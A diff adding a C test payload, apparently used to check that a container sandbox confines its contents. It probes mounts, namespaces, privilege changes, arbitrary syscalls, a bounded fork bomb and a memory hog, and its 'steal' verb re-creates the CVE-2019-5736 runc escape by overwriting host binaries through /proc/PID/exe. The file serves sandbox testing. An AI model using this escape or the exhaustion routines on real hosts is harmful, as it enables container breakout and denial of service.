@@ -1,0 +1,199 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+#include <errno.h>
+#include <fcntl.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mount.h>
+#include <sys/resource.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+#include "tests/payload/payload.h"
+
+static int verb_mount(int argc, char **argv)
+{
+	unsigned long flags = argc > 3 ? strtoul(argv[3], NULL, 0) : 0;
+
+	return answer("mount", mount(argv[1], argv[2], argv[0], flags, NULL));
+}
+
+static int verb_umount(int argc, char **argv)
+{
+	(void)argc;
+	return answer("umount", umount2(argv[0], MNT_DETACH));
+}
+
+static int verb_unshare(int argc, char **argv)
+{
+	static const struct {
+		const char *name;
+		int flag;
+	} types[] = {{"user", CLONE_NEWUSER}, {"mount", CLONE_NEWNS}, {"net", CLONE_NEWNET},
+		{"pid", CLONE_NEWPID}, {"uts", CLONE_NEWUTS}, {"ipc", CLONE_NEWIPC},
+		{"cgroup", CLONE_NEWCGROUP}};
+
+	(void)argc;
+	for (size_t i = 0; i < sizeof(types) / sizeof(*types); i++)
+		if (strcmp(argv[0], types[i].name) == 0)
+			return answer("unshare", unshare(types[i].flag));
+	errno = EINVAL;
+	return answer("unshare", -1);
+}
+
+static int verb_socket(int argc, char **argv)
+{
+	int type = argc > 1 ? atoi(argv[1]) : SOCK_STREAM;
+	int protocol = argc > 2 ? atoi(argv[2]) : 0;
+
+	return answer("socket", socket(atoi(argv[0]), type, protocol));
+}
+
+static int verb_setuid(int argc, char **argv)
+{
+	(void)argc;
+	return answer("setuid",
+		setresuid((uid_t)atoi(argv[0]), (uid_t)atoi(argv[0]), (uid_t)atoi(argv[0])));
+}
+
+static int verb_setrlimit(int argc, char **argv)
+{
+	struct rlimit limit = {strtoul(argv[1], NULL, 0), strtoul(argv[1], NULL, 0)};
+
+	(void)argc;
+	return answer("setrlimit", setrlimit((__rlimit_resource_t)atoi(argv[0]), &limit));
+}
+
+static int verb_hostname(int argc, char **argv)
+{
+	(void)argc;
+	return answer("hostname", sethostname(argv[0], strlen(argv[0])));
+}
+
+/* call NUMBER [ARG...]: an argument is a number, or a string after "=". */
+static int verb_call(int argc, char **argv)
+{
+	static const struct {
+		const char *name;
+		long number;
+	} calls[] = {{"getcpu", SYS_getcpu}, {"mkdirat", SYS_mkdirat}, {"fchmodat", SYS_fchmodat},
+		{"unshare", SYS_unshare}, {"setns", SYS_setns}, {"bpf", SYS_bpf},
+		{"keyctl", SYS_keyctl}, {"ptrace", SYS_ptrace}, {"personality", SYS_personality},
+		{"perf_event_open", SYS_perf_event_open}, {"userfaultfd", SYS_userfaultfd},
+		{"io_uring_setup", SYS_io_uring_setup}, {"fsopen", SYS_fsopen},
+		{"uname", SYS_uname}, {"getppid", SYS_getppid}, {"kexec_load", SYS_kexec_load},
+		{"syslog", SYS_syslog}, {"open_by_handle_at", SYS_open_by_handle_at},
+		{"getgid", SYS_getgid}};
+	long values[6] = {0}, number = -1, result;
+
+	for (size_t i = 0; i < sizeof(calls) / sizeof(*calls); i++)
+		if (strcmp(argv[0], calls[i].name) == 0)
+			number = calls[i].number;
+	if (number < 0)
+		number = strtol(argv[0], NULL, 0);
+	for (int i = 1; i < argc && i < 7; i++)
+		values[i - 1] = argv[i][0] == '=' ? (long)(argv[i] + 1) : strtol(argv[i], NULL, 0);
+	result = syscall(number, values[0], values[1], values[2], values[3], values[4], values[5]);
+	return answer(argv[0], result);
+}
+
+static int verb_forkbomb(int argc, char **argv)
+{
+	int wanted = atoi(argv[0]), n = 0;
+	pid_t *children = calloc((size_t)wanted, sizeof(*children));
+	pid_t pid = 0;
+
+	(void)argc;
+	fflush(stdout);
+	while (children && n < wanted && (pid = fork()) >= 0) {
+		if (pid == 0) {
+			pause();
+			_exit(0);
+		}
+		children[n++] = pid;
+	}
+	printf("forkbomb: %d of %d: %s\n", n, wanted, pid < 0 ? strerrorname_np(errno) : "ok");
+	for (int i = 0; i < n; i++)
+		kill(children[i], SIGKILL);
+	while (wait(NULL) > 0)
+		;
+	free(children);
+	return 0;
+}
+
+static int verb_memhog(int argc, char **argv)
+{
+	size_t size = strtoul(argv[0], NULL, 0);
+	char *memory = malloc(size);
+
+	(void)argc;
+	if (!memory)
+		return answer("memhog", -1);
+	for (size_t i = 0; i < size; i += 4096)
+		((volatile char *)memory)[i] = 1;
+	return answer("memhog", 0);
+}
+
+/*
+ * CVE-2019-5736 from inside: holds every program that is not its own by /proc/PID/exe and, once
+ * nobody executes it any more, opens it for writing.
+ */
+static int verb_steal(int argc, char **argv)
+{
+	struct stat own, other;
+	char path[64], result[64] = "nothing seen";
+	time_t end = time(NULL) + atoi(argv[0]);
+
+	(void)argc;
+	stat("/proc/self/exe", &own);
+	while (time(NULL) < end) {
+		for (int pid = 1; pid < 64; pid++) {
+			int held, fd;
+
+			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+			held = open(path, O_RDONLY | O_CLOEXEC);
+			if (held < 0)
+				continue;
+			if (fstat(held, &other) < 0 || other.st_ino == own.st_ino) {
+				close(held);
+				continue;
+			}
+			snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
+			for (int i = 0; i < 2000; i++) {
+				fd = open(path, O_WRONLY | O_CLOEXEC);
+				if (fd >= 0 || errno != ETXTBSY)
+					break;
+				usleep(500);
+			}
+			snprintf(result, sizeof(result), "%s",
+				fd < 0 ? strerrorname_np(errno) : "opened");
+			if (fd >= 0 && write(fd, "#!/payload\n", 11) == 11)
+				snprintf(result, sizeof(result), "overwritten");
+			close(fd);
+			close(held);
+		}
+	}
+	printf("steal: %s\n", result);
+	return 0;
+}
+
+const struct verb try_verbs[] = {
+	{"call", 1, verb_call},
+	{"forkbomb", 1, verb_forkbomb},
+	{"hostname", 1, verb_hostname},
+	{"memhog", 1, verb_memhog},
+	{"mount", 3, verb_mount},
+	{"setrlimit", 2, verb_setrlimit},
+	{"setuid", 1, verb_setuid},
+	{"socket", 1, verb_socket},
+	{"steal", 1, verb_steal},
+	{"umount", 1, verb_umount},
+	{"unshare", 1, verb_unshare},
+	{NULL, 0, NULL},
+};
